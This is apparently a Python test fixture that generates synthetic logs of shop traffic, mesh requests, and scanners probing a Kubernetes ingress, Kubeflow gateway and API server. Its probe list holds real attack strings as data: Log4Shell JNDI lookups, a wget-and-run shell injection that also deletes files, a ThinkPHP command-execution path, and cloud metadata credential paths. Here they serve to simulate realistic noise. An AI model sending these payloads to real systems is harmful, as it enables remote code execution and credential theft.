"""The internet at the door: ordinary traffic of the shop, scanners at the ingress and at the API server."""

# ruff: noqa: E501 (one row for one thing that happens reads better than ten)

from __future__ import annotations

from collections.abc import Iterator

from tests.day.ink import MINUTE, SECOND, Caller, Day, Written
from tests.day.rhythm import Habit, moments

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.5.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)", "GoogleStackdriverMonitoring-UptimeChecks(https://cloud.google.com/monitoring)",
)  # fmt: skip
_SCANNERS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1)",
    "python-requests/2.27.1",
    "Go-http-client/1.1",
    "masscan/1.3",
    "Nuclei - Open-source project",
)
_PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/actuator/env", "/?x=${jndi:ldap://198.18.0.9:1389/a}", "/cgi-bin/luci/;stok=/locale?form=country",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/api/v1/namespaces/default/pods", "/api/v1/secrets", "/pipeline/", "/jupyter/",
    "/login.action", "/solr/admin/info/system", "/manager/html", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.18.0.9/jaws;sh+/tmp/jaws",
    "/latest/meta-data/iam/security-credentials/", "/?url=http://169.254.169.254/latest/meta-data/", "/_/pipeline/", "/hub/login", "/api/workflows/",
    "/boaform/admin/formLogin", "/%24%7Bjndi:dns://198.18.0.9/x%7D", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=system&vars[0]=id",
)  # fmt: skip


def _client(day: Day) -> str:
    return f"{day.draw.choice(('192.0.2', '198.51.100', '203.0.113'))}.{day.draw.randrange(2, 250)}"


def shop_traffic(day: Day, at: int) -> Iterator[Written]:
    """Customers, robots, uptime checks; now and then a 5xx."""
    path = day.draw.choice(
        (
            "/",
            "/products/42",
            "/cart",
            "/checkout",
            "/static/app.js",
            "/api/v1/orders",
            "/search?q=usb+miner+lamp",
            "/blog/kubernetes-secrets",
            "/healthz",
        )
    )
    status = day.draw.choice((200,) * 20 + (304, 302, 404, 499, 502, 503, 500, 401))
    method = "POST" if path in {"/cart", "/checkout"} else "GET"
    yield from day.access(
        at,
        method,
        path,
        _client(day),
        gateway="ingress-nginx",
        status=status,
        agent=day.draw.choice(_BROWSERS),
        host="shop.example.com",
    )


def mesh_traffic(day: Day, at: int) -> Iterator[Written]:
    """Requests of partners through Istio's gateway; other applications share it with Kubeflow."""
    path = day.draw.choice(
        (
            "/api/ledger/v2/entries",
            "/api/search?q=dashboard",
            "/webhooks/payment",
            "/grafana/api/health",
            "/apis/v1/orders",
        )
    )
    status = day.draw.choice((200,) * 12 + (401, 403, 404, 503))
    flags = "UH" if status == 503 else "-"
    yield from day.access(at, day.draw.choice(("GET", "POST")), path, _client(day), status=status, flags=flags, agent=day.draw.choice(_BROWSERS),
                          host="api.example.com", upstream="outbound|8080||ledger.billing.svc.cluster.local")  # fmt: skip


def ingress_scanned(day: Day, at: int) -> Iterator[Written]:
    """A scanner tries its list at the ingress: 404, 401, 400, 302 to the login."""
    client, agent = _client(day), day.draw.choice(_SCANNERS)
    for place, path in enumerate(day.draw.sample(_PROBES, 5)):
        status = day.draw.choice((404, 404, 404, 400, 401, 403, 405, 308))
        yield from day.access(
            at + place * 400_000,
            "GET",
            path,
            client,
            gateway="ingress-nginx",
            status=status,
            agent=agent,
            host=day.draw.choice(("203.0.113.80", "shop.example.com")),
        )


def gateway_scanned(day: Day, at: int) -> Iterator[Written]:
    """A scanner finds Kubeflow's gateway: pages are redirected to the login, interfaces answer 401."""
    client, agent = _client(day), day.draw.choice(_SCANNERS)
    for place, (path, status) in enumerate((("/", 302), ("/pipeline/", 302), ("/pipeline/apis/v2beta1/runs", 401), ("/jupyter/", 302),
                                            ("/api/namespaces", 401), ("/.env", 302))):  # fmt: skip
        yield from day.access(at + place * 500_000, "GET", path, client, status=status, flags="UAEX", agent=agent)


def api_server_scanned(day: Day) -> Iterator[Written]:
    """A scanner at the API server: no name, a few paths, 403 each; another with a rubbish token: 401."""
    for at in moments(day, "machine", 10, 2):
        client, agent = _client(day), day.draw.choice(("Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "curl/7.68.0"))
        who = Caller("system:anonymous", client, agent, ("system:unauthenticated",))
        for place, path in enumerate(
            day.draw.sample(("/", "/robots.txt", "/api", "/.env", "/swagger.json", "/favicon.ico", "/openapi/v2"), 3)
        ):
            yield from day.api(at + place * SECOND, who, "get", "", path=path, code=403, decision="forbid")
        if day.draw.randrange(3) == 0:
            yield from day.api(at + 4 * SECOND, who, "list", "pods", "default", code=403, decision="forbid")
        yield from day.api(at + 5 * SECOND, who, "get", "", path="/version")
        for written in day.api(at + MINUTE, who, "list", "namespaces", code=401):
            written.record["user"] = {}
            yield written


def keys_of_issuer(day: Day, at: int) -> Iterator[Written]:
    """Vault and a cloud ask for the keys with which tokens are signed; kubeadm nodes read cluster-info."""
    who = Caller("system:anonymous", _client(day), "Go-http-client/2.0", ("system:unauthenticated",))
    yield from day.api(
        at, who, "get", "", path=day.draw.choice(("/openid/v1/jwks", "/.well-known/openid-configuration"))
    )


STORIES = (api_server_scanned,)
HABITS = (
    Habit(16, "traffic", shop_traffic, "containers"),
    Habit(5, "traffic", mesh_traffic, "containers"),
    Habit(0.5, "machine", ingress_scanned, "containers"),
    Habit(0.15, "machine", gateway_scanned, "containers"),
    Habit(0.1, "machine", keys_of_issuer),
)
